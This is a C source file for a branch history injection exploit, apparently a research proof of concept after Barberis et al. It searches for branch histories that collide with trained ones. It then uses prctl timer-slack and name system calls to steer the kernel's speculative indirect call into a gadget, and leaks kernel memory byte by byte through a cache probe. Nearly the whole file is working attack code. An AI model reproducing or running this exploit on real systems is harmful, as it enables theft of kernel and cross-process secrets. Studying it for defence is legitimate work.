/*
 * Branch history injection (Barberis et al., 2022): the processor does not let user mode train
 * indirect branches of the kernel, but what user mode did is part of the history by which it chooses
 * among targets that the kernel itself has been to. The same call of the kernel goes to one program
 * with a name, and to another with what a system call returns. After a history that collides with
 * that of a call with a name, the call with a result is predicted to go to the program for names,
 * which takes the result for a pointer. What a process is told of its timer slack is what it has set.
 *
 * Which histories collide is found by trying: many calls with a name under different histories, then
 * calls with a result until one of them shows a byte that is known.
 */
#include "attack.h"

#include <sys/prctl.h>
#include <sys/syscall.h>

#include "evict.h"
#include "gadget.h"
#include "secret.h"
#include "train.h"

enum {
	HISTORIES = 1024,
	TRIES = 512,
	FAR_TRIES = 384,
	/* One alone may fail each time, where its branches share counters of the predictor with others. */
	TRAINED_TOGETHER = 8,
	ATTEMPTS = 3,
	PROGRAM_LINE = 0,
};

static const uint8_t *array;
static uint64_t trained[HISTORIES], history;
static int trained_from, trained_to;

/* A system call without a function around it, whose branches would leave less of the history before. */
static inline void call_kernel(long number, long first, long second)
{
	__asm__ volatile("syscall" : "+a"(number) : "D"(first), "S"(second) : "rcx", "r11", "memory");
}

/*
 * The kernel calls the program for names. There is one copy of this function, because its own
 * branches are in the histories, too.
 */
static __attribute__((noinline)) void call_with_name(uint64_t bits)
{
	leave_history(bits);
	call_kernel(SYS_prctl, PR_SET_NAME, (uintptr_t)"task");
}

/*
 * It calls the program for results; returns what the other one has disclosed. Likewise. The system call has no
 * descriptor: the kernel's table of files may lie in the lines that are evicted, and while the kernel waits for
 * it, the reorder buffer has no room for all of the other program.
 */
static __attribute__((noinline)) int call_with_result(uint64_t bits, uint64_t address)
{
	const uint8_t *probe = array + SHARED_PROBE;

	call_kernel(SYS_prctl, PR_SET_TIMERSLACK, address);
	touch(array + SHARED_KNOWN);
	flush_probe(probe);
	/* The address of the program to call is in the first line of a page. */
	evict(PROGRAM_LINE, pages_to_evict);
	leave_history(bits);
	call_kernel(SYS_prctl, PR_GET_TIMERSLACK, 0);
	return reload_probe(probe);
}

static void train_histories(void)
{
	for (int i = trained_from; i < trained_to; i++)
		call_with_name(trained[i]);
}

/*
 * The first attempt after another process has used the secret spends what time there is on the walk
 * to it, and on bringing it nearer, which spares both to the next.
 */
static int read_byte(uint64_t address)
{
	int value = NOTHING;

	for (int i = 0; i < ATTEMPTS && value == NOTHING; i++) {
		train_histories();
		value = call_with_result(history, address);
	}
	return value;
}

/* Whether the history collides with one of those that are trained. */
static int collides(void)
{
	for (int i = 0; i < ATTEMPTS; i++) {
		train_histories();
		if (call_with_result(history, options.known) == KNOWN_BYTE)
			return 1;
	}
	return 0;
}

/*
 * Finds a history that collides with one of a few. The processor has not seen the branches of the program
 * for names under the history of the other call. What it predicts for them is wrong now and then, which costs
 * time: so the address of the program to call has to come from memory. But once it may do from the last cache,
 * and that takes a tenth of the time to prepare.
 */
static int find_collision(int tries)
{
	for (int i = 0; i < HISTORIES; i++)
		trained[i] = next_random();
	trained_from = 0;
	trained_to = HISTORIES;
	train_histories();
	for (int i = 0; i < tries; i++) {
		history = next_random();
		if (call_with_result(history, options.known) != KNOWN_BYTE)
			continue;
		prepare_far_eviction();
		/* Halves what it may collide with. */
		while (trained_to - trained_from > TRAINED_TOGETHER) {
			int to = trained_to;

			trained_to = (trained_from + to) / 2;
			if (!collides()) {
				trained_from = trained_to;
				trained_to = to;
			}
		}
		if (collides())
			return 1;
		trained_from = 0;
		trained_to = HISTORIES;
	}
	trained_to = 0;
	return 0;
}

static int sample(int index)
{
	use_secret(index);
	return read_byte(options.address + index);
}

int main(int argc, char **argv)
{
	int found;

	parse_options(argc, argv);
	if (!options.address || !options.known)
		errx(2, "expected --address and --known");
	open_secret();
	array = map_gadget(options.gadget);
	calibrate();
	prepare_eviction();
	found = find_collision(TRIES);
	if (!found) {
		prepare_far_eviction();
		found = find_collision(FAR_TRIES);
	}
	recover(sample, patience_if(found), 1);
	return 0;
}
